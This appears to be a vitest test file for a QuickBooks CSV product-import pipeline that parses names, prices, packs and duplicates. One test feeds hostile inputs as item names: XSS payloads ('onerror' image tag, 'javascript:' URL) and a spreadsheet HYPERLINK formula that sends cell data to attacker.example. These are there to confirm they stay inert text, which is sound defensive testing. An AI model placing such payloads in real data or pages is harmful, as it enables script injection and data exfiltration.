import { describe, expect, it } from "vitest";
import { detectFormat } from "../read/detect";
import { MAX_ITEM_NAME_LENGTH } from "../limits";
import { understandText } from "../pipeline";
import type { DetectedFormat, RawRow, UnderstoodRow } from "../types";
import { markDuplicates, understandRow } from "./understand";

const QBO_HEADER = "Product/Service Name,Sales Description,SKU,Type,Sales Price / Rate,Quantity On Hand";
const QBD_HEADER = ',"Active Status","Type","Item","Description","Quantity On Hand","U/M","Price"';

function formatOf(header: string): DetectedFormat {
  const detected = detectFormat(`${header}\n`);
  if (!detected.ok) throw new Error("not detected");
  return detected.format;
}
const qbo = formatOf(QBO_HEADER);
const qbd = formatOf(QBD_HEADER);

function raw(format: DetectedFormat, cells: string[], row = 1): RawRow {
  const fields: RawRow["fields"] = {};
  for (const [field, index] of Object.entries(format.columns))
    fields[field as keyof RawRow["fields"]] = cells[index] ?? "";
  return { row, line: row + 1, fields, cells };
}
const qboRow = (name: string, description: string, price = "10.00", type = "Inventory", sku = "", qty = "") =>
  understandRow(raw(qbo, [name, description, sku, type, price, qty]), qbo);
const codes = (row: UnderstoodRow) => row.messages.map((m) => m.code);

describe("understandRow", () => {
  it("understands a product: ID, names, category, pack, unit, price, SKU and quantity", () => {
    const row = qboRow("AVO48", "AGUACATE HASS 48CT", "$1,054.50", "Inventory", "AVO-48", "1,200");
    expect(row).toMatchObject({
      item: "AVO48",
      quickbooksId: "AVO48",
      status: "product",
      aiStatus: "success",
      importable: true,
      active: true,
      name: "Hass Avocado",
      nameEs: "Aguacate Hass",
      category: "fruits",
      packValue: 48,
      packUnit: "ct",
      unit: "case",
      priceCents: 105450,
      sku: "AVO-48",
      quantityOnHand: 1200,
      recognized: true,
    });
    expect(row.messages).toEqual([]);
  });

  it("drops QuickBooks Online's ' (deleted)' label from the ID and keeps the item inactive", () => {
    const row = qboRow("MANGO KENT 8 (deleted)", "MANGO KENT 8CT");
    expect(row).toMatchObject({
      item: "MANGO KENT 8 (deleted)",
      quickbooksId: "MANGO KENT 8",
      status: "processed_inactive",
      active: false,
      name: "Kent Mango",
    });
    expect(codes(row)).toContain("inactive_item");
  });

  it("keys QuickBooks Desktop items on their full path and reads Active Status and U/M", () => {
    const row = understandRow(
      raw(qbd, ["", "Not-active", "Non-inventory Part", "VERDURAS:JENGIBRE", "JENGIBRE (GINGER)", "", "lb", "2.40"]),
      qbd,
    );
    expect(row).toMatchObject({
      quickbooksId: "VERDURAS:JENGIBRE",
      status: "processed_inactive",
      packValue: 1,
      packUnit: "lb",
      unit: "lb",
      priceCents: 240,
    });
  });

  it("skips services, codes and invalid descriptions with the reason, and derives nothing for them", () => {
    expect(qboRow("DELIVERY", "Delivery charge", "25.00", "Service")).toMatchObject({
      status: "skipped_service_item",
      aiStatus: "skipped_not_a_product",
      name: null,
      priceCents: null,
      importable: false,
    });
    expect(qboRow("FSC", "FUEL SURCHARGE", "5.00", "Non-inventory")).toMatchObject({
      status: "skipped_known_non_product_code",
      aiStatus: "skipped_known_non_product_code",
    });
    expect(qboRow("KIWI", "N/A")).toMatchObject({
      status: "skipped_invalid_description",
      aiStatus: "skipped_not_a_product",
    });
    expect(qboRow("DISCOUNT", "Discount / Descuento", "-5.00", "Non-inventory").messages).toEqual([
      { code: "known_non_product_code", severity: "info", params: { code: "DISCOUNT" } },
    ]);
  });

  it("leaves a product without a price when the price is missing, negative or not a number, and says so", () => {
    expect(qboRow("A", "TOMATO ROMA 25LB", "")).toMatchObject({
      priceCents: null,
      messages: [{ code: "price_missing" }],
    });
    expect(qboRow("A", "TOMATO ROMA 25LB", "-5.00")).toMatchObject({
      priceCents: null,
      messages: [{ code: "price_negative", params: { price: "-5.00" } }],
    });
    expect(qboRow("A", "TOMATO ROMA 25LB", "7.25%")).toMatchObject({
      priceCents: null,
      messages: [{ code: "price_invalid" }],
    });
    expect(qboRow("A", "TOMATO ROMA 25LB", "0.345")).toMatchObject({
      priceCents: 35,
      messages: [{ code: "price_rounded" }],
    });
  });

  it("keeps markup and formulas in names as text", () => {
    const xss = qboRow(
      "<img src=x onerror=alert(1)>",
      "TOMATO ROMA 25LB",
      "21.00",
      "Non-inventory",
      "javascript:alert(1)",
    );
    expect(xss).toMatchObject({
      item: "<img src=x onerror=alert(1)>",
      quickbooksId: "<img src=x onerror=alert(1)>",
      sku: "javascript:alert(1)",
      name: "Roma Tomato",
    });
    const formula = qboRow('=HYPERLINK("http://attacker.example/?d="&A1,"Click")', "AGUACATE HASS 48CT");
    expect(formula.quickbooksId).toBe('=HYPERLINK("http://attacker.example/?d="&A1,"Click")');
    expect(qboRow("AVO &lt;b&gt;48&lt;/b&gt;", "AGUACATE HASS 48CT").quickbooksId).toBe("AVO &lt;b&gt;48&lt;/b&gt;");
  });

  it("cuts an overlong item name with a warning, and reports a row without a name as an error", () => {
    const long = qboRow("X".repeat(5000), "AGUACATE HASS 48CT");
    expect(long.quickbooksId).toHaveLength(MAX_ITEM_NAME_LENGTH);
    expect(codes(long)).toContain("item_name_truncated");
    expect(qboRow("   ", "AGUACATE HASS 48CT")).toMatchObject({
      status: "error",
      aiStatus: "error",
      quickbooksId: null,
      messages: [{ code: "missing_item_name" }],
    });
  });

  it("reports a row whose cells overflow the header (an unquoted comma) as an error", () => {
    const row = understandRow(
      raw(qbo, ["PEPPER", "BELL GREEN XL", " 1 1/9 BU", "", "Inventory", "31.00", "", "oops"]),
      qbo,
    );
    expect(row).toMatchObject({
      status: "error",
      messages: [{ code: "extra_cells", params: { expected: 6, found: 8 } }],
    });
  });

  it("marks duplicates: the later row wins and carries a warning, the earlier one is superseded", () => {
    const first = { ...qboRow("TOMATILLO", "TOMATILLO 50 LB"), row: 19 };
    const second = { ...qboRow("TOMATILLO", "Tomatillo c/cáscara 25 lb"), row: 32, messages: [] };
    const superseded = markDuplicates([first, second]);
    expect([...superseded]).toEqual([19]);
    expect(second.messages).toEqual([
      { code: "duplicate_item", severity: "warning", params: { item: "TOMATILLO", firstRow: 19 } },
    ]);
    expect(first.messages).toEqual([{ code: "duplicate_superseded", severity: "warning", params: { row: 32 } }]);
  });
});

describe("understandText", () => {
  it("runs detection, parsing and understanding, and marks duplicates across batches", async () => {
    const text = [
      QBO_HEADER,
      "TOMATILLO,TOMATILLO 50 LB,,Non-inventory,38.00,",
      "CIL30,CILANTRO 30CT,,Inventory,14.00,",
      "TOMATILLO,Tomatillo 25 lb,,Non-inventory,21.00,",
    ].join("\r\n");
    const seen: number[] = [];
    const result = await understandText(text, {
      batchSize: 1,
      onBatch: (rows) => void seen.push(...rows.map((r) => r.row)),
    });
    expect(seen).toEqual([1, 2, 3]);
    if (!result.ok) throw new Error("rejected");
    expect(result.totalRows).toBe(3);
    expect([...result.superseded]).toEqual([[1, 3]]);
    expect(codes(result.rows[0])).toEqual(["duplicate_superseded"]);
    expect(codes(result.rows[2])).toEqual(["duplicate_item"]);
  });
});
